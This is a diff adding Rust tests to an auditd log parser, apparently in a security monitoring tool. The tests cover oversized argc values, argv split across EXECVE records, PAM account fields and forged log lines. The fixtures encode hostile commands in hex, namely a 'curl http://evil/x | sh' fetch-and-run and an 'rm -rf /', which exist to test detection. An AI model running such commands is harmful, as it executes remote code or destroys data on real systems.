@@ -878,3 +878,119 @@ fn a_cef_outcome_of_unsuccessful_is_a_failure_and_a_repeated_key_reads_its_first
     assert_eq!(at(&evs[1], "src_endpoint.ip"), "192.0.2.1");
     assert_eq!(at(&evs[1], "unmapped.cef.extensions.src"), "192.0.2.1");
 }
+
+const SYSCALL_EXEC: &str = r#"type=SYSCALL msg=audit(1700000000.123:700): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=100 pid=200 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key=(null)"#;
+
+/// `argc` is the process's own: a forged `argc=99999999999` asked for terabytes before
+/// reading one argument (the agent aborted), and 600,000 empty arguments made a 40 MB
+/// event. The command line is read within a bound, and what is missing or cut is said once.
+#[test]
+fn an_exec_with_a_huge_argc_is_read_within_a_bound() {
+    let evs = norm_lines(&[
+        SYSCALL_EXEC,
+        r#"type=EXECVE msg=audit(1700000000.123:700): argc=99999999999 a0="sh""#,
+        r#"type=EOE msg=audit(1700000000.123:700): "#,
+    ]);
+    assert_eq!(evs.len(), 1);
+    let p = evs[0].process.as_ref().unwrap();
+    assert_eq!(p.cmd_line.as_deref(), Some("sh"));
+    let why = at(&evs[0], "unmapped.vedette.parse_error");
+    let why = why.as_str().unwrap();
+    assert!(why.contains("missing") && why.contains("cut"), "{why}");
+    assert!(why.len() < 400, "said once: {why}");
+}
+
+/// A long argv takes several EXECVE records of one event: arguments after the first were
+/// dropped, so padding `a1` pushed the real command out of `cmd_line`. A long argument
+/// comes in hex pieces, a character possibly split between them: joined, then decoded.
+/// Hex keeps trailing blanks (`/tmp/sshd ` is not `/tmp/sshd`).
+#[test]
+fn an_argv_over_several_execve_records_is_read_whole() {
+    let pad = "A".repeat(7400);
+    let first = format!(r#"type=EXECVE msg=audit(1700000000.123:700): argc=4 a0="sh" a1="{pad}""#);
+    let evs = norm_lines(&[
+        SYSCALL_EXEC,
+        &first,
+        r#"type=EXECVE msg=audit(1700000000.123:700): a2="-c" a3=6375726C20687474703A2F2F6576696C2F78207C207368"#,
+        r#"type=EOE msg=audit(1700000000.123:700): "#,
+    ]);
+    let cmd = evs[0].process.as_ref().unwrap().cmd_line.clone().unwrap();
+    assert!(
+        cmd.ends_with(" -c curl http://evil/x | sh"),
+        "{}",
+        &cmd[cmd.len() - 40..]
+    );
+    let evs = norm_lines(&[
+        SYSCALL_EXEC,
+        r#"type=EXECVE msg=audit(1700000000.123:700): argc=2 a0="sh" a1_len=24 a1[0]=726D202D7266202F20 a1[1]=7820C3"#,
+        r#"type=EXECVE msg=audit(1700000000.123:700): a1[2]=A9"#,
+        r#"type=CWD msg=audit(1700000000.123:700): cwd=2F746D702F73736864200A"#,
+        r#"type=EOE msg=audit(1700000000.123:700): "#,
+    ]);
+    let p = evs[0].process.as_ref().unwrap();
+    assert_eq!(p.cmd_line.as_deref(), Some("sh rm -rf / x é"));
+    assert_eq!(p.working_directory.as_deref(), Some("/tmp/sshd \n"));
+}
+
+/// PAM logs `acct="?"` for an account it does not know; the record's own `uid` is the
+/// logging process's (sshd: 0), so the failure is no failed root logon. `id=` is a uid.
+#[test]
+fn an_unknown_account_is_not_the_logging_processs_uid() {
+    let evs = norm_lines(&[
+        r#"type=USER_AUTH msg=audit(1700000000.300:22): pid=900 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="?" exe="/usr/sbin/sshd" hostname=1.2.3.4 addr=1.2.3.4 terminal=ssh res=failed'"#,
+        r#"type=USER_LOGIN msg=audit(1700000000.400:23): pid=900 uid=0 auid=1000 ses=5 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr=1.2.3.4 terminal=ssh res=success'"#,
+    ]);
+    assert_eq!(
+        evs[0].header.status,
+        Some(vedette_schemas::ocsf::Status::Failure)
+    );
+    assert_ne!(at(&evs[0], "user.uid"), "0", "{}", at(&evs[0], "user"));
+    assert_eq!(at(&evs[1], "user.uid"), "1000");
+    assert_ne!(at(&evs[1], "user.name"), "1000");
+}
+
+/// auditd does not encode a `'` inside `msg='…'` (a user's cwd `/tmp/it's`): the value
+/// ended there, and `res=failed` with it.
+#[test]
+fn a_quote_inside_msg_does_not_hide_the_result() {
+    let evs = norm_lines(&[
+        r#"type=USER_AUTH msg=audit(1700000000.100:31): pid=900 uid=0 auid=1000 ses=5 msg='op=PAM:authentication grantors=? acct="adm'in" exe="/usr/bin/sudo" hostname=? addr=? terminal=pts/0 res=failed'"#,
+    ]);
+    assert_eq!(
+        evs[0].header.status,
+        Some(vedette_schemas::ocsf::Status::Failure)
+    );
+    assert_eq!(at(&evs[0], "user.name"), "adm'in");
+}
+
+/// Serials start over at boot: a record of another boot's event with the same serial is
+/// another event, not part of the one still open.
+#[test]
+fn records_of_one_serial_at_two_times_are_two_events() {
+    let evs = norm_lines(&[
+        r#"type=SYSCALL msg=audit(1700000000.100:5): arch=c000003e syscall=257 success=yes exit=3 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=10 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="old" exe="/usr/bin/old" key=(null)"#,
+        r#"type=SYSCALL msg=audit(1700090000.100:5): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=88 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="new" exe="/usr/bin/new" key=(null)"#,
+        r#"type=EXECVE msg=audit(1700090000.100:5): argc=1 a0="new""#,
+        r#"type=EOE msg=audit(1700090000.100:5): "#,
+    ]);
+    let exec = evs
+        .iter()
+        .find(|e| e.class() == Class::ProcessActivity)
+        .expect("the exec of the second boot");
+    assert_eq!(exec.process.as_ref().unwrap().pid, Some(88));
+    assert_eq!(
+        evs.len(),
+        2,
+        "the first boot's record is an event of its own"
+    );
+}
+
+/// Any local user can log under any name (`logger -t myapp 'type=USER_LOGIN …'`): an audit
+/// record is read only from the programs that forward them, or from a file of them.
+#[test]
+fn an_audit_record_from_another_program_is_not_read_as_one() {
+    let evs = norm_lines(&[
+        r#"Nov 26 10:00:00 web1 myapp[4242]: type=USER_LOGIN msg=audit(1764151200.000:9001): pid=1 uid=0 auid=0 ses=1 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=? terminal=ssh res=success'"#,
+    ]);
+    assert_ne!(evs[0].class(), Class::Authentication);
+}
